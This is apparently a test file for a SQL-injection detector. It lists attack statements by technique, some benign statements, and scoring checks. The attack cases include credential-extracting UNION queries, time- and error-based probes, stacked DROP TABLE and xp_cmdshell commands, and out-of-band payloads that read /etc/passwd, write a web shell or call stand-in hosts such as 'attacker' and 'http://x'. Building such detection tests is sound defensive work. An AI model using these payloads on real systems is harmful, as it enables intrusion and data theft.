// SQL-injection detection on whole statements: every technique with the
// reasons it must report, dialect details, and the benign side (the capture
// corpus and generated application SQL) that must stay silent. Rates on the
// public libinjection corpora are measured by bench/sqli-corpus.bench.ts.
import test from 'ava';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { detectSqlInjection, SQLI_REASONS, type Dialect } from '../src/index.js';
import { repoRoot, tsharkTest } from '../../../test-support/corpus.js';
import { allAppTemplates, appStatements, quote, USER_TEXT } from './helpers/app-sql.js';
import { corpusQueries } from './helpers/sql-corpus.js';

type Case = [sql: string, reasons: string[], dialect?: Dialect];

/** Statements an application would send after gluing attacker input into its SQL, by technique. */
const TECHNIQUES: Record<string, Case[]> = {
  tautology: [
    ["SELECT * FROM users WHERE name = '' OR '1'='1'", ['tautology', 'string-comparison']],
    ['SELECT * FROM users WHERE id = 1 OR 1=1', ['tautology']],
    ["SELECT * FROM users WHERE name = 'a' OR name = name", ['tautology']],
    ['SELECT * FROM users WHERE id = 1 || 1=1', ['tautology']],
    ['SELECT * FROM products WHERE id = 1) OR (1=1', ['unbalanced-parentheses', 'tautology']],
    ['SELECT * FROM users WHERE id = 5 OR 3 BETWEEN 1 AND 9', ['tautology']],
    ["SELECT * FROM users WHERE user = 'x' OR 'a' LIKE 'a'", ['tautology', 'string-comparison']],
  ],
  'union-extraction': [
    ['SELECT name FROM products WHERE id = -1 UNION SELECT NULL, NULL, NULL', ['union-after-condition', 'union-column-mismatch', 'union-select']],
    ['SELECT name, price FROM products WHERE id = 1 UNION ALL SELECT user, password FROM mysql.user', ['union-after-condition', 'union-select', 'union-credentials']],
    ['SELECT name, price FROM items WHERE cat = 3 UNION SELECT login, pwd_hash FROM accounts', ['union-after-condition', 'union-credentials']],
    ['SELECT title, body FROM posts WHERE id = 9 UNION ALL SELECT email, api_token FROM members', ['union-after-condition', 'union-credentials']],
    ['SELECT name FROM products WHERE id = 1 UNION SELECT @@version', ['union-after-condition', 'union-select', 'system-info']],
    ['SELECT name, price FROM products WHERE id = 1 UNION SELECT username FROM users', ['union-after-condition', 'union-column-mismatch']],
    ['SELECT * FROM products WHERE id = 1 UNION SELECT username, password FROM users', ['union-after-condition', 'union-shape', 'union-credentials']],
    ["SELECT * FROM products WHERE name = 's' UNION (SELECT 1 FROM users LIMIT 1,1)", ['union-after-condition', 'union-shape', 'union-probe']],
    ['SELECT * FROM t WHERE id = 1 UNION SELECT table_name, column_name FROM information_schema.columns', ['union-after-condition', 'union-shape', 'union-select', 'system-info']],
  ],
  'system-probes': [
    ['SELECT * FROM items WHERE id = 1 AND (SELECT COUNT(*) FROM sys.objects) > 0', ['system-probe'], 'tsql'],
    ["SELECT * FROM items WHERE id = 1 AND MID(VERSION(),1,1) = '8'", ['system-probe', 'system-info']],
    ['SELECT * FROM items WHERE id = 1 AND (SELECT COUNT(*) FROM information_schema.tables) > 0', ['system-probe', 'system-info']],
    ['SELECT * FROM items WHERE id = 1 AND (SELECT COUNT(*) FROM pg_catalog.pg_tables) > 0', ['system-probe', 'system-info'], 'postgres'],
    ['SELECT * FROM items WHERE id = 1 AND (SELECT COUNT(*) FROM mysql.user) > 0', ['system-probe']],
    ["SELECT * FROM items WHERE id = 1 AND @@version LIKE '8%'", ['system-probe', 'system-info']],
    ['SELECT * FROM items WHERE id = 1 OR (SELECT COUNT(*) FROM sysobjects) > 0', ['system-probe', 'system-info'], 'tsql'],
    ['SELECT * FROM items WHERE id = 1 AND (SELECT COUNT(*) FROM all_tables) > 0', ['system-probe', 'system-info'], 'oracle'],
    ["SELECT * FROM items WHERE id = 1 AND (SELECT banner FROM v$version WHERE rownum = 1) LIKE 'Oracle%'", ['system-probe'], 'oracle'],
    ["SELECT * FROM items WHERE id = 1 AND user() = 'root@localhost'", ['system-probe']],
    ["SELECT * FROM items WHERE id = 1 AND SUBSTRING(user(),1,4) = 'root'", ['system-probe']],
    ["SELECT * FROM items WHERE id = 1 AND current_user = 'postgres'", ['system-probe', 'system-info'], 'postgres'],
    ["SELECT * FROM items WHERE id = 1 AND database() = 'shop'", ['system-probe']],
  ],
  'case-blind': [
    ["SELECT * FROM items WHERE id = 1 AND 1=(CASE WHEN (SUBSTRING(@@version,1,1)='5') THEN 1 ELSE 0 END)", ['case-probe', 'system-probe', 'system-info']],
    ['SELECT * FROM items WHERE id = 1 ORDER BY CASE WHEN (1=1) THEN 1 ELSE (SELECT 1 UNION SELECT 2) END', ['case-probe', 'union-probe']],
    ['SELECT * FROM items WHERE id = 1 AND (CASE WHEN (1=1) THEN 1 ELSE 0 END)=1', ['case-probe']],
    ['SELECT * FROM items ORDER BY (CASE WHEN (SELECT ASCII(SUBSTRING(password,1,1)) FROM users LIMIT 1)>64 THEN name ELSE price END)', ['blind-inference']],
    ["SELECT * FROM items WHERE id = 1 AND 1=(CASE WHEN (SUBSTR(version(),1,10)='PostgreSQL') THEN 1 ELSE 0 END)", ['case-probe', 'system-probe', 'system-info'], 'postgres'],
  ],
  'stacked-queries': [
    ['SELECT * FROM products WHERE id = 1; DROP TABLE users', ['stacked-query']],
    ['SELECT * FROM products WHERE id = 1; SHUTDOWN', ['stacked-query']],
    ["SELECT * FROM products WHERE id = 1; INSERT INTO admins (name) VALUES ('eve')", ['stacked-query']],
    ["SELECT * FROM products WHERE id = 1; GRANT ALL ON *.* TO 'eve'@'%'", ['stacked-query']],
    ["SELECT * FROM products WHERE id = 1; EXEC master..xp_cmdshell 'dir'", ['stacked-query', 'out-of-band'], 'tsql'],
  ],
  'comment-truncation': [
    ["SELECT * FROM users WHERE name = 'admin'-- ' AND password = 'x'", ['comment-truncation']],
    ["SELECT * FROM users WHERE name = 'admin'#' AND password = 'x'", ['comment-truncation']],
    ['SELECT * FROM users WHERE id = 8 AND 1=1--', ['constant-condition', 'trailing-comment']],
    ["SELECT * FROM users WHERE name = 'x' OR 2>1 -- ' AND pass = ''", ['tautology', 'comment-truncation']],
  ],
  'time-based': [
    ['SELECT * FROM products WHERE id = 1 AND SLEEP(5)', ['time-based']],
    ["SELECT * FROM products WHERE id = 1 AND BENCHMARK(5000000, MD5('a'))", ['time-based']],
    ['SELECT * FROM products WHERE id = 1; SELECT pg_sleep(10)', ['time-based'], 'postgres'],
    ['SELECT * FROM products WHERE id = 1 AND 1=(SELECT 1 FROM pg_sleep(5))', ['time-based'], 'postgres'],
    ["SELECT * FROM products WHERE id = 1; WAITFOR DELAY '0:0:5'--", ['stacked-query', 'time-based', 'trailing-comment'], 'tsql'],
    ["SELECT * FROM products WHERE id = 1 AND 1=DBMS_PIPE.RECEIVE_MESSAGE('a', 5)", ['time-based'], 'oracle'],
    ["SELECT * FROM users WHERE name = 'x' OR IF(1=1, SLEEP(3), 0)", ['time-based']],
  ],
  'error-based': [
    ['SELECT * FROM products WHERE id = 1 AND EXTRACTVALUE(1, CONCAT(0x5c, (SELECT @@version)))', ['error-based', 'system-info']],
    ['SELECT * FROM products WHERE id = 1 AND UPDATEXML(1, CONCAT(0x7e, USER()), 1)', ['error-based']],
    ['SELECT * FROM products WHERE id = 1 AND (SELECT 1 FROM (SELECT COUNT(*), CONCAT(VERSION(), FLOOR(RAND(0)*2)) x FROM information_schema.tables GROUP BY x) a)', ['system-info', 'error-based']],
    ['SELECT * FROM products WHERE id = 1 AND EXP(~(SELECT * FROM (SELECT USER()) a))', ['error-based']],
    ['SELECT * FROM products WHERE id = 1 AND 1=CONVERT(INT, @@version)', ['error-based', 'system-info'], 'tsql'],
    ['SELECT * FROM t WHERE id = 1 AND 1=CAST((SELECT version()) AS int)', ['error-based', 'system-info'], 'postgres'],
    ['SELECT * FROM products WHERE id = 1 AND 1=UTL_INADDR.GET_HOST_NAME((SELECT user FROM dual))', ['error-based'], 'oracle'],
  ],
  'out-of-band': [
    ["SELECT * FROM products WHERE id = 1 UNION SELECT LOAD_FILE('/etc/passwd')", ['union-after-condition', 'union-shape', 'union-select', 'out-of-band']],
    ["SELECT * FROM products WHERE id = 1 INTO OUTFILE '/var/www/shell.php'", ['out-of-band']],
    ["SELECT * FROM products WHERE id = 1; EXEC master..xp_dirtree '\\\\attacker\\share'", ['stacked-query', 'out-of-band'], 'tsql'],
    ["SELECT * FROM t WHERE id = 1; COPY t FROM PROGRAM 'curl http://x'", ['stacked-query', 'out-of-band'], 'postgres'],
    ["SELECT * FROM products WHERE id = 1 AND UTL_HTTP.REQUEST('http://x/'||(SELECT user FROM dual)) IS NOT NULL", ['out-of-band'], 'oracle'],
    ["SELECT * FROM t WHERE id = 1 AND 1=(SELECT COUNT(*) FROM OPENROWSET('SQLOLEDB', 'server=x', 'SELECT 1'))", ['out-of-band'], 'tsql'],
  ],
  'blind-inference': [
    ['SELECT * FROM products WHERE id = 1 AND ASCII(SUBSTRING((SELECT password FROM users LIMIT 1), 1, 1)) > 64', ['blind-inference']],
    ['SELECT * FROM products WHERE id = 8 AND 8=3', ['boolean-probe']],
    ["SELECT * FROM products WHERE name = 'x' AND '6'='5'", ['boolean-probe', 'string-comparison']],
    ['SELECT * FROM products WHERE id = 1 AND 3=PI()', ['boolean-probe']],
  ],
  'string-breakout': [
    ["SELECT * FROM products WHERE name = 'A' AND 'B'", ['boolean-probe', 'string-condition']],
    ["SELECT * FROM products WHERE name = 'A' = 'B'", ['comparison-chain']],
    ["SELECT * FROM products WHERE name = 'A' SOUNDS LIKE 'B'", ['comparison-chain']],
    ["SELECT * FROM products WHERE name = 'A' - 'B'", ['literal-arithmetic']],
    ["SELECT * FROM products WHERE name = 'A' DIV 'B'", ['literal-arithmetic']],
    ["SELECT * FROM products WHERE name = '' && ''", ['string-condition']],
  ],
  obfuscation: [
    ['SELECT * FROM products WHERE id = 1 UNION/**/SELECT 1,2,3', ['union-after-condition', 'union-shape', 'union-select', 'comment-obfuscation']],
    ['SELECT * FROM products WHERE id = 1 /*!UNION*/ SELECT 1,2,3', ['executable-comment', 'union-after-condition', 'union-shape', 'union-select']],
    ['SELECT * FROM products WHERE id = 1e0UNION SELECT 1,2,3', ['glued-keyword', 'union-after-condition', 'union-shape', 'union-select']],
    ['SELECT * FROM products WHERE id = select 1 from foo where', ['misplaced-select', 'dangling-end']],
  ],
};

for (const [technique, cases] of Object.entries(TECHNIQUES)) {
  test(`detects ${technique} and reports why`, (t) => {
    for (const [sql, reasons, dialect] of cases) {
      const r = detectSqlInjection(sql, dialect ?? 'mysql');
      t.deepEqual(r.reasons, reasons, sql);
      t.true(r.injection, `not flagged (score ${r.score}): ${sql}`);
      t.true(r.score >= 0.7 && r.score <= 1, sql);
    }
  });
}

test('system data, CASE and credential columns in ordinary statements are not probes', (t) => {
  const benign: [string, Dialect][] = [
    ['SELECT * FROM documents WHERE owner = current_user AND id = 4', 'postgres'],
    ["SELECT table_name FROM information_schema.tables WHERE table_schema = database() AND table_type = 'BASE TABLE'", 'mysql'],
    ["SELECT table_name FROM information_schema.tables WHERE table_schema = 'shop'", 'mysql'],
    ["SELECT c.relname FROM pg_catalog.pg_class c WHERE c.relkind = 'r' AND c.relnamespace IN (SELECT oid FROM pg_catalog.pg_namespace WHERE nspname = 'public')", 'postgres'],
    ['SELECT * FROM orders WHERE id = 5 AND (SELECT COUNT(*) FROM order_items i WHERE i.order_id = orders.id) > 0', 'mysql'],
    ["SELECT * FROM tickets WHERE id = 3 ORDER BY CASE WHEN status = 'open' THEN 1 ELSE 2 END", 'mysql'],
    ["SELECT CASE WHEN qty > 0 THEN 'in stock' ELSE 'sold out' END FROM items WHERE id = 2", 'mysql'],
    ['SELECT name, price FROM items WHERE cat = 3 UNION SELECT name, price FROM archived_items WHERE cat = 3', 'mysql'],
    ['SELECT login, pwd_hash FROM accounts UNION SELECT login, pwd_hash FROM legacy_accounts', 'mysql'],
    ['SELECT id FROM users WHERE password_hash = ? AND login = ?', 'mysql'],
    ["SELECT ASCII(SUBSTRING(name, 1, 1)) AS initial FROM people WHERE id = 3", 'mysql'],
    ["SELECT * FROM sessions WHERE user_name = user() AND expires > NOW()", 'mysql'],
  ];
  for (const [sql, dialect] of benign) {
    const r = detectSqlInjection(sql, dialect);
    t.false(r.injection, `${sql}: ${r.reasons.join(', ')} (${r.score})`);
    t.false(r.reasons.includes('system-probe') || r.reasons.includes('case-probe') || r.reasons.includes('blind-inference'), `${sql}: ${r.reasons.join(', ')}`);
  }
});

test('every reason has a weight and a description; the score combines the weights of the reasons found', (t) => {
  const docs = readFileSync(join(repoRoot, 'docs/sqli.md'), 'utf8');
  for (const [name, r] of Object.entries(SQLI_REASONS)) {
    t.true(r.weight > 0 && r.weight < 1, name);
    t.true(r.description.length > 10, name);
    t.true(docs.includes(`| \`${name}\` | ${r.weight} |`), `reason ${name} (weight ${r.weight}) is not in docs/sqli.md`);
  }
  for (const cases of Object.values(TECHNIQUES)) {
    for (const [sql, , dialect] of cases) {
      const r = detectSqlInjection(sql, dialect ?? 'mysql');
      const expected = 1 - r.reasons.reduce((keep, x) => keep * (1 - SQLI_REASONS[x]!.weight), 1);
      t.is(r.score, Math.round(expected * 1000) / 1000, sql);
    }
  }
  // one weak sign alone stays below the threshold; two of them reach it
  const one = detectSqlInjection('SELECT * FROM users WHERE id = 1 /* x');
  t.deepEqual(one.reasons, ['unterminated-comment']);
  t.false(one.injection);
  const weak = detectSqlInjection("SELECT * FROM t WHERE a = 'x");
  t.deepEqual(weak.reasons, ['unbalanced-quotes']);
  t.false(weak.injection);
});

test('weak signs are reported but need company to alert', (t) => {
  const weak: Case[] = [
    ['SELECT * FROM products WHERE id = -1# comment\n (SELECT id FROM users LIMIT 1,1)', ['missing-operator']],
    ["SELECT * FROM t WHERE a = 'x", ['unbalanced-quotes']],
    ['SELECT a FROM t WHERE a = 1 UNION SELECT b FROM u', ['union-after-condition']],
    ['SELECT * FROM t WHERE a = 1 AND 1=1', ['constant-condition']],
    ['SELECT * FROM t WHERE a = 1 --', ['trailing-comment']],
    ['SELECT * FROM t WHERE a = 1)', ['unbalanced-parentheses']],
    ['SELECT * FROM t WHERE a = 1 AND', ['dangling-end']],
  ];
  for (const [sql, reasons] of weak) {
    const r = detectSqlInjection(sql);
    t.deepEqual(r.reasons, reasons, sql);
    t.false(r.injection, sql);
  }
  // two together reach the threshold
  t.true(detectSqlInjection('SELECT * FROM t WHERE a = 1 AND 1=1 --').injection);
});

test('a delay on its own is a time call, not an injection; inside a condition or batch it is', (t) => {
  t.deepEqual(detectSqlInjection('SELECT SLEEP(5)'), { injection: false, reasons: ['time-call'], score: 0.6 });
  t.deepEqual(detectSqlInjection('SELECT pg_sleep(1)', 'postgres').reasons, ['time-call']);
  t.true(detectSqlInjection('SELECT * FROM t WHERE a = 1 AND SLEEP(5)').injection);
});

test('dialects: concatenation operators and quoting are not mistaken for injection', (t) => {
  // || concatenates in PostgreSQL and Oracle (it is OR only in MySQL)
  t.deepEqual(detectSqlInjection("SELECT * FROM t WHERE name = 'a' || 'b'", 'postgres').reasons, []);
  t.deepEqual(detectSqlInjection("SELECT * FROM t WHERE name = 'a' || 'b'", 'oracle').reasons, []);
  t.true(detectSqlInjection("SELECT * FROM t WHERE name = 'a' || 'b'", 'mysql').injection);
  // + concatenates strings in T-SQL
  t.deepEqual(detectSqlInjection("SELECT * FROM t WHERE name = 'a' + 'b'", 'tsql').reasons, []);
  // a quote inside an escaped string ends nothing
  t.deepEqual(detectSqlInjection("SELECT * FROM t WHERE name = 'O\\'Brien OR 1=1 -- '").reasons, []);
  t.deepEqual(detectSqlInjection("SELECT * FROM t WHERE name = 'O''Brien OR 1=1 -- '", 'postgres').reasons, []);
  // BETWEEN's AND is not a boolean AND
  t.deepEqual(detectSqlInjection("SELECT * FROM t WHERE d BETWEEN '2026-01-01' AND '2026-01-31' AND n BETWEEN 1 AND 9").reasons, []);
});

test('benign application SQL never alerts: every template, generated statements and escaped user text', (t) => {
  const statements = [...allAppTemplates(), ...appStatements(3000)];
  for (const text of USER_TEXT) {
    for (const d of ['mysql', 'postgres'] as const) {
      statements.push({ dialect: d, sql: `SELECT * FROM products WHERE name = ${quote(text, d)}` });
      statements.push({ dialect: d, sql: `UPDATE notes SET body = ${quote(text, d)} WHERE id = 7` });
    }
  }
  const alerts = statements.filter((s) => detectSqlInjection(s.sql, s.dialect).injection).map((s) => `${s.dialect}: ${s.sql} -> ${detectSqlInjection(s.sql, s.dialect).reasons.join(',')}`);
  t.deepEqual(alerts, []);
  t.true(statements.length > 3000);
});

// The capture corpus is real traffic; one capture records an injection
// attempt, which must be found. Nothing else may alert.
const CORPUS_ATTACKS = ["SELECT password FROM accounts WHERE username = 'test' OR 1 = '1' UNION SELECT username FROM accounts"];

tsharkTest('capture corpus: only the recorded injection attempt alerts', (t) => {
  const { mysql, postgres } = corpusQueries();
  const flagged: string[] = [];
  let n = 0;
  for (const [d, list] of [['mysql', mysql], ['postgres', postgres]] as const) {
    for (const sql of new Set(list)) {
      n++;
      if (detectSqlInjection(sql, d).injection) flagged.push(sql);
    }
  }
  t.true(n > 250);
  t.deepEqual(flagged, CORPUS_ATTACKS);
  t.deepEqual(detectSqlInjection(CORPUS_ATTACKS[0]!).reasons, ['tautology', 'union-after-condition']);
});
